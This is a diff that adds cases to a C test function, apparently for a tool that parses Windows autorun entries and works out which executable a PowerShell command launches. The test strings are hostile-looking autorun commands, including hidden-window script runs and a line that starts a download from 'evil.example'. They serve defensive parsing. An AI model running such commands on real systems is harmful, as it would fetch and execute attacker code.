@@ -244,6 +244,10 @@ static void test_hosts(void)
     starts(files, AUTORUN_ONE, "powershell -c C:\\evil\\s.ps1 -x", "/evil/s.ps1 found <-x>");
     starts(files, AUTORUN_ONE, "powershell -Command \"& 'C:\\evil\\b c.exe' -a\"",
            "/evil/b c.exe found <-a>");
+    starts(files, AUTORUN_ONE, "powershell -c \"& \\\"C:\\evil\\b c.exe\\\" -a\"",
+           "/evil/b c.exe found <-a>");
+    starts(files, AUTORUN_ONE, "powershell -c start http://evil.example/x.exe",
+           "powershell absent <-c start http://evil.example/x.exe>");
     starts(files, AUTORUN_ONE, "powershell -w hidden -c \". C:\\evil\\s.ps1\"",
            "/evil/s.ps1 found <>");
     starts(files, AUTORUN_ONE, "powershell \"&{Start-Process -FilePath 'C:\\evil\\a.exe'}\"",
